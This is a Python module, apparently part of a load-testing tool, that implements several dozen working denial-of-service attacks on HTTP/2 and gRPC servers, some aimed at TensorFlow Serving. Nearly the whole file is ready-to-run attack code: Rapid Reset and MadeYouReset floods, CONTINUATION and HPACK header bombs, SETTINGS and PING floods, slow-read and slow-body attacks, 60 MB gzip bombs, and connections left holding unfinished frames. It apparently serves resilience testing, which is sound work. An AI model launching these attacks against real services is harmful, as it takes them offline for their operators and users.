"""The attacks on HTTP/2, and on gRPC over HTTP/2; the text of each attack describes the bytes that it sends."""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from typing import Any

from loadtest.attacks import frames
from loadtest.attacks.attacker import Attacker, Cases, Conn, gzipped_zeros, repeated
from loadtest.attacks.frames import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING
from loadtest.attacks.targets import Target
from loadtest.wire import METADATA_METHOD, RELOAD_METHOD, STATUS_METHOD

CASES = Cases()
# Number of streams that an attack opens on one connection; servers allow 100 to 1000.
_STREAMS, _FEW = 1000, 100
_CHUNK = 1 << 16
_WINDOWS_A_STEP, _SLOW_STEP_S = 8, 0.005
# Number of streams that get one byte at a time, and the pause between two bytes.
_DRIBBLED, _DRIBBLE_S = 20, 0.1
# Number of calls in flight of an attack whose calls are legal; servers allow 100 streams or more.
_AT_ONCE = 96
# Numbers of connections for attacks that open many streams on each connection.
_CONNECTIONS, _FEW_CONNECTIONS, _UNFINISHED = 100, 10, 500
_FRAME_BYTES = 16384

Pieces = Callable[[Attacker], Iterable[bytes]]
Connect = Callable[[Attacker], Conn]


def _streams(first: int = 1) -> Iterator[int]:
    return iter(range(first, 2**31 - 1, 2))


def _gathered(pieces: Iterable[bytes]) -> Iterator[bytes]:
    """Joins small pieces of bytes into chunks of at least 64 KB."""
    chunk = bytearray()
    for piece in pieces:
        chunk += piece
        if len(chunk) >= _CHUNK:
            yield bytes(chunk)
            chunk.clear()
    if chunk:
        yield bytes(chunk)


def _wide(attacker: Attacker) -> Conn:
    """Opens an HTTP/2 connection with the largest flow-control windows for answers."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
    return conn


def _begun(attacker: Attacker, *, announced: bytes = b"") -> Conn:
    """Opens a connection and begins a request on stream 1; announced: the beginning of its body, if it is gRPC."""
    conn = attacker.http2()
    data = frames.frame(DATA, 0, 1, announced) if announced and attacker.target.is_grpc else b""
    conn.send([attacker.target.open_request(1) + data], attacker.end_s)
    return conn


def _half_block(attacker: Attacker) -> Conn:
    conn = attacker.http2()
    conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
    return conn


def _waiting(attacker: Attacker, *, window: int = 0, is_large: bool = False) -> Conn:
    """Sends 1000 requests, or 100 for answers of megabytes, whose answers must wait for flow control."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, window))
    count = _FEW if is_large else _STREAMS
    asked = (attacker.target.request(stream, is_large=is_large) for stream in range(1, 2 * count, 2))
    conn.send(_gathered(asked), attacker.end_s)
    conn.wait(min(time.monotonic() + 0.2, attacker.end_s))
    return conn


_waiting_large = partial(_waiting, is_large=True)
_full = partial(_waiting_large, window=frames.MAX_WINDOW)
# A gRPC message that announces 1 MB.
_ANNOUNCED = b"\0" + (1 << 20).to_bytes(4)
_begun_message = partial(_begun, announced=_ANNOUNCED)
_EMPTY_MESSAGES = frames.frame(DATA, 0, 1, bytes(5) * 3000)
_LONG_FIELD = frames.frame(CONTINUATION, 0, 1, frames.field(b"a", b"b" * 1000))
_RESIZES = (b"\x20" + frames.integer(4096, 5, 0x20)) * 3000


def _overflown(size: int) -> Callable[[Target, int], bytes]:
    return lambda target, stream: target.open_request(stream) + frames.window_update(stream, size)


def _half_requests(attacker: Attacker) -> Iterator[bytes]:
    for stream in range(1, 2 * _STREAMS, 2):
        data = frames.frame(DATA, 0, stream, _ANNOUNCED + bytes(1000))
        yield attacker.target.open_request(stream) + data


def _in_bytes(target: Target, stream: int) -> bytes:
    parts = [frames.frame(CONTINUATION, 0, stream, bytes([byte])) for byte in target.fields()]
    end = frames.frame(CONTINUATION, END_HEADERS, stream)
    return b"".join([frames.frame(HEADERS, 0, stream), *parts, end])


def _huffman(size: int) -> bytes:
    # In HPACK's Huffman code 00000 is the letter "0", so zero bytes decode to one letter for each 5 bits.
    return b"\x00" + frames.integer(1, 7) + b"x" + frames.integer(size, 7, 0x80) + bytes(size)


def _header_bomb(first: bytes, more: bytes) -> Pieces:
    """Adds a header field to the HPACK table in the first request, and refers to it in every further request."""

    def pieces(attacker: Attacker) -> Iterator[bytes]:
        fields = attacker.target.fields()
        yield frames.frame(HEADERS, END_HEADERS, 1, fields + first) + frames.reset(1)
        yield from _gathered(
            frames.frame(HEADERS, END_HEADERS, stream, fields + more) + frames.reset(stream) for stream in _streams(3)
        )

    return pieces


_BOMB = _header_bomb(frames.field(b"x", b"y" * 3900, first=0x40), b"\xbe" * 12_000)


def _flood(
    name: str, what: str, pieces: bytes | Pieces, connect: Connect = Attacker.http2, *, reads: bool = True, **more: Any
) -> None:
    """Adds an attack that sends pieces, or one again and again, on one connection until the time is over."""

    def attack(attacker: Attacker) -> None:
        conn = connect(attacker) if reads else attacker.http2(receive_bytes=4096)
        attacker.flood(repeated(pieces) if isinstance(pieces, bytes) else pieces(attacker), conn, reads=reads)

    CASES.row(name, what, attack, **({"port": "http2"} | more))


def _each(name: str, what: str, make: Callable[[Target, int], bytes], **more: Any) -> None:
    """Adds an attack that sends bytes for one stream after another, which `make` makes of the target."""
    _flood(name, what, lambda attacker: _gathered(make(attacker.target, s) for s in _streams()), **more)


def _settings(value: int) -> bytes:
    return frames.settings((INITIAL_WINDOW_SIZE, value))


_PING = frames.frame(PING, 0, 0, bytes(8))
_BYTE, _EMPTY_DATA = frames.window_update(0, 1), frames.frame(DATA, 0, 1)
_BYTES = b"".join(frames.window_update(stream, 1) for stream in range(1, 2 * _STREAMS, 2))
_MANY_SETTINGS = frames.settings(*((INITIAL_WINDOW_SIZE, 65535 + number % 2) for number in range(2730)))
_flood("window_updates", "WINDOW_UPDATEs of the connection beside 1000 answers that wait for streams", _BYTE, _waiting)
_flood("stream_window_updates", "WINDOW_UPDATEs of 1 byte for 1000 streams with waiting answers", _BYTES, _waiting)
_flood(
    "settings_beside_streams",
    "SETTINGS that open and close 1000 waiting streams",
    _settings(1) + _settings(0),
    _waiting,
)
_flood("settings_flood", "empty SETTINGS frames, each of which the server must acknowledge", frames.settings())
_flood("long_settings", "SETTINGS frames with 2730 values each", _MANY_SETTINGS)
_flood("settings_unread", "empty SETTINGS frames; the client reads nothing", frames.settings(), reads=False)
_flood("ping_flood", "PING frames without pause; the client reads the answers", _PING)
_flood("ping_unread", "PING frames without pause; the client reads nothing", _PING, reads=False)
_flood("ping_acks", "acknowledgements of PINGs that the server never sent", frames.frame(PING, ACK, 0, bytes(8)))
_flood("unknown_frames", "empty frames of a type that HTTP/2 does not define", frames.frame(0x77, 0, 0))
_flood("empty_data", "a request body of empty DATA frames", _EMPTY_DATA, _begun)
_flood("tiny_data", "a message of 1 MB in DATA frames of 1 byte", frames.frame(DATA, 0, 1, b"\0"), _begun_message)
_flood("padded_data", "DATA frames of padding alone", frames.frame(DATA, 8, 1, b"\xff" + bytes(255)), _begun)
_flood(
    "many_messages", "a unary call with a million empty messages", _EMPTY_MESSAGES, _begun, port="grpc", is_ended=False
)
_flood("continuation_flood", "a header block that never ends, in CONTINUATIONs of 1 KB", _LONG_FIELD, _half_block)
_flood("empty_continuation", "a header block of empty CONTINUATIONs", frames.frame(CONTINUATION, 0, 1), _half_block)
_flood("byte_windows", "WINDOW_UPDATEs of 1 byte for a connection whose answers have megabytes", _BYTE, _full)
_flood("zero_window", "requests for megabytes on 100 streams whose windows are 0", lambda attacker: (), _waiting_large)
_flood(
    "window_changes", "SETTINGS that open and close 100 large streams", _settings(1000) + _settings(0), _waiting_large
)
_each(
    "priority_flood",
    "PRIORITY frames for streams that the client never opens",
    lambda t, s: frames.frame(frames.PRIORITY, 0, s, bytes([0, 0, 0, 0, 16])),
)
_each("rapid_reset", "requests that are canceled at once", lambda t, s: t.request(s) + frames.reset(s))
_each("open_and_reset", "requests canceled before their body", lambda t, s: t.open_request(s) + frames.reset(s))
_each("made_you_reset", "WINDOW_UPDATEs of 0 bytes, to be answered with RST_STREAM", _overflown(0))
_each("made_you_reset_by_window", "WINDOW_UPDATEs that overflow the window of their stream", _overflown(2**31 - 1))
_each(
    "made_you_reset_by_data",
    "complete requests, each followed by DATA on its closed stream",
    lambda t, s: t.request(s) + frames.frame(DATA, 0, s, b"x"),
)
_each("requests_flood", "small requests with large windows", lambda t, s: t.request(s), connect=_wide, is_ended=False)
_flood("half_requests", "requests on 1000 streams that never end", _half_requests, is_ended=False)
_each("byte_continuations", "header blocks in CONTINUATION frames of 1 byte", _in_bytes)
_each(
    "table_resizes",
    "header blocks that resize the HPACK table 3,000 times each",
    lambda t, s: frames.frame(HEADERS, END_HEADERS, s, _RESIZES + t.fields()) + frames.reset(s),
)
_each(
    "hpack_huffman_flood",
    "header blocks with 65 KB of Huffman code; the client reads the answers",
    lambda t, s: frames.header_frames(s, t.fields() + _huffman(65_000), END_STREAM),
)
_flood("hpack_index_bomb", "references of 1 byte to a header field of 3.9 KB, 12,000 a request", _BOMB)
_flood(
    "hpack_huffman", "header values of 12 KB in Huffman code that decode to 19 KB", _header_bomb(b"", _huffman(12_000))
)
_flood("many_fields", "requests with 3,000 empty header fields", _header_bomb(b"", frames.field(b"a", b"") * 3000))


@CASES.add("http2", least_s=2.0)
def unread_answers(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes on many streams, with large windows; the client reads nothing."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW), receive_bytes=4096)
    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
    asked = (attacker.target.request(stream, is_large=True) for stream in itertools.islice(_streams(), _FEW))
    attacker.flood(asked, conn, reads=False)


@CASES.add("http2", least_s=5.0)
def slow_read(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes on 100 streams; the client grants the streams 1 byte each, in turn."""
    conn = _waiting_large(attacker)
    streams = itertools.cycle(range(1, 2 * _FEW, 2))
    grants = (
        b"".join(frames.window_update(stream, 1) for stream in itertools.islice(streams, _WINDOWS_A_STEP))
        for _ in itertools.count()
    )
    conn.send(grants, attacker.end_s, pause_s=_SLOW_STEP_S)
    conn.last_word(attacker.seconds)


@CASES.add("grpc", least_s=2.0)
def slow_body(attacker: Attacker) -> None:
    """Sends messages on 20 streams, of which none becomes complete: each gets one more byte ten times a second."""
    conn = attacker.http2()
    conn.unfinished = frozenset(range(1, 2 * _DRIBBLED, 2))
    prefix = b"\0" + (1 << 20).to_bytes(4)
    asked = (attacker.target.open_request(s) + frames.frame(DATA, 0, s, prefix) for s in sorted(conn.unfinished))
    conn.send(_gathered(asked), attacker.end_s)

    def rounds() -> Iterator[bytes]:
        while waiting := sorted(conn.unfinished - conn.received.ended_streams):
            yield b"".join(frames.frame(DATA, 0, stream, b"\0") for stream in waiting)

    conn.send(rounds(), attacker.end_s, pause_s=_DRIBBLE_S)


@CASES.add("http2")
def no_preface(attacker: Attacker) -> None:
    """Opens 600 connections; sends nothing on one half, and half of the HTTP/2 preface on the other half."""
    conns = attacker.connections(600, is_raw=True)
    for conn in conns[::2]:
        conn.send([frames.PREFACE[:10]], attacker.end_s)
    attacker.until_closed(conns)


_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def _gzip_bombs(name: str, what: str, begun: bytes = b"", path: str = "") -> None:
    """Adds calls of a gRPC method on many streams; each body is `begun` and a message that inflates to 60 MB."""

    def attack(attacker: Attacker) -> None:
        bomb = gzipped_zeros(60)
        body = begun + b"\1" + len(bomb).to_bytes(4) + bomb
        head = attacker.target.fields((b"grpc-encoding", b"gzip"), path=path)
        conn = attacker.http2()

        def asked() -> Iterator[bytes]:
            for stream in _streams():
                yield frames.frame(HEADERS, END_HEADERS, stream, head) + frames.data_frames(stream, body)
                # Read answers and WINDOW_UPDATE frames for a moment, so that the flow-control windows are open for the
                # next message.
                conn.wait(min(time.monotonic() + 0.02, attacker.end_s))

        attacker.flood(asked(), conn)

    CASES.row(name, what, attack, "grpc", is_ended=False)


_gzip_bombs("gzip_messages", "gRPC messages of 60 KB that inflate to 60 MB each, on one stream after another")
_gzip_bombs("second_gzip_messages", "messages that inflate to 60 MB, each as the second of a unary call", bytes(5))
_gzip_bombs("stream_gzip_messages", "the same in calls of gRPC's reflection service", bytes(5), _REFLECTION)


def _calls(attacker: Attacker, call: Callable[[int], bytes]) -> None:
    """Keeps legal calls in flight on one connection; call: returns the frames of a call on a stream."""
    conn = _wide(attacker)
    streams = _streams()
    begun = 0
    while not attacker.is_over and not conn.closed:
        free = _AT_ONCE - (begun - len(conn.received.ended_streams))
        if free > 0:
            conn.send([b"".join(map(call, itertools.islice(streams, free)))], attacker.end_s)
            begun += free
        else:
            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
    conn.last_word(attacker.seconds)


def _call(fields: bytes, stream: int, message: bytes) -> bytes:
    data = b"\0" + len(message).to_bytes(4) + message
    return frames.frame(HEADERS, END_HEADERS, stream, fields) + frames.frame(DATA, END_STREAM, stream, data)


@CASES.add("http2", is_ended=False)
def dependencies(attacker: Attacker) -> None:
    """Sends requests whose HEADERS frames each depend on the next stream, by HTTP/2's former stream priorities."""
    fields, body = attacker.target.fields(), attacker.target.body

    def call(stream: int) -> bytes:
        priority = (stream + 2 | 1 << 31).to_bytes(4) + b"\xff"
        ends = END_STREAM if not body else 0
        head = frames.frame(HEADERS, END_HEADERS | 0x20 | ends, stream, priority + fields)
        return head if ends else head + frames.frame(DATA, END_STREAM, stream, body)

    _calls(attacker, call)


def _on_many(attacker: Attacker, connections: int, begin: Callable[[int], bytes]) -> None:
    """Begins a call on each of 100 streams of many connections, and reads answers until the time is over."""
    begun = b"".join(map(begin, range(1, 2 * _FEW, 2)))
    conns: list[Conn] = []
    for _ in range(connections):
        if not attacker.is_over and (conn := attacker.connect()) is not None:
            conns.append(conn)
            conn.send([frames.PREFACE + frames.settings() + begun], attacker.end_s)
    attacker.until_closed(conns)


def _unfinished(attacker: Attacker, begin: Callable[[Conn], bytes]) -> None:
    """Sends the beginning of a frame or request on each of 500 connections, and then nothing.

    Args:
      begin: returns the bytes, given a connection whose server has sent its SETTINGS.
    """
    conns = attacker.connections(_UNFINISHED)
    for conn in conns:
        conn.send([frames.PREFACE + frames.settings()], attacker.end_s)
    for conn in conns:
        conn.answer(attacker.end_s)
        conn.send([begin(conn)], attacker.end_s)
    attacker.until_closed(conns)


@CASES.add("http2", least_s=3.0)
def half_frames(attacker: Attacker) -> None:
    """Sends a frame of the largest size, without its last byte, on each of 500 connections."""
    _unfinished(attacker, lambda conn: frames.frame(0x77, 0, 0, bytes(conn.received.max_frame))[:-1])


@CASES.add("http2", least_s=3.0)
def half_headers(attacker: Attacker) -> None:
    """Sends a header block of 60 KB, without its last frame, on each of 500 connections."""
    filler = frames.frame(CONTINUATION, 0, 1, frames.field(b"h", b"v" * 15_000))
    begun = frames.frame(HEADERS, 0, 1, attacker.target.fields()) + filler * 4
    _unfinished(attacker, lambda conn: begun)


@CASES.add("http2", is_ended=False)
def large_headers(attacker: Attacker) -> None:
    """Sends requests with 60 KB of headers on 100 streams of each of 10 connections, and never sends their bodies."""
    fields = attacker.target.fields(*((b"h%d" % number, b"v" * 4000) for number in range(15)))
    _on_many(attacker, _FEW_CONNECTIONS, lambda stream: frames.header_frames(stream, fields))


_WATCH = "/grpc.health.v1.Health/Watch"


@CASES.add("grpc", is_ended=False)
def health_watches(attacker: Attacker) -> None:
    """Calls Health/Watch, which never ends by itself, on 100 streams of each of 100 connections."""
    fields = attacker.target.fields(path=_WATCH)
    _on_many(attacker, _CONNECTIONS, lambda stream: _call(fields, stream, b""))


@CASES.add("grpc", is_ended=False)
def many_watches(attacker: Attacker) -> None:
    """Makes eight calls to Health/Watch, which never ends by itself, on each of 500 connections."""
    fields = attacker.target.fields(path=_WATCH)
    calls = b"".join(_call(fields, stream, b"") for stream in range(1, 17, 2))
    _unfinished(attacker, lambda conn: calls)


# Metadata that gRPC's specification does not allow, or that gRPC's C++ core can not parse.
_ODD_METADATA = (
    (b"grpc-timeout", b"1x"),
    (b"grpc-timeout", b"99999999H"),
    (b"grpc-encoding", b"odd"),
    (b"grpc-previous-rpc-attempts", b"many"),
    (b"x-bin", b"***"),
    (b"x", b"\xff"),
)


@CASES.add("grpc", is_ended=False)
def odd_metadata(attacker: Attacker) -> None:
    """Makes calls with malformed deadlines, unknown encodings, and metadata that is neither valid base64 nor text."""
    heads = itertools.cycle([attacker.target.fields(pair, path=STATUS_METHOD) for pair in _ODD_METADATA])
    _calls(attacker, lambda stream: _call(next(heads), stream, b""))


@CASES.add("grpc", is_ended=False)
def unknown_models(attacker: Attacker) -> None:
    """Sends Predict calls, each for another model that does not exist."""
    fields = attacker.target.fields()
    _calls(attacker, lambda stream: _call(fields, stream, b"\x0a\x0d\x0a\x0bm%010d" % stream))


def _same_call(name: str, what: str, method: str, message: Callable[[Target, int], bytes]) -> None:
    def attack(attacker: Attacker) -> None:
        target = attacker.target
        fields = target.fields(path=method)
        _calls(attacker, lambda stream: _call(fields, stream, message(target, stream)))

    CASES.row(name, what, attack, "grpc", is_ended=False)


def _metadata_request(target: Target, stream: int) -> bytes:
    spec = b"\x0a%c" % len(target.model) + target.model.encode()
    return b"\x0a%c" % len(spec) + spec + b"\x12\x0dsignature_def"


_same_call("model_metadata", "GetModelMetadata", METADATA_METHOD, _metadata_request)
_same_call(
    "reflections",
    "reflection calls that ask for the file of a service",
    _REFLECTION,
    lambda target, stream: b"\x22\x24tensorflow.serving.PredictionService",
)
_same_call(
    "reloads",
    "HandleReloadConfigRequest, half of the calls without a list of models, and half with a malformed one",
    RELOAD_METHOD,
    lambda target, stream: b"" if stream % 4 == 1 else b"\xff",
)
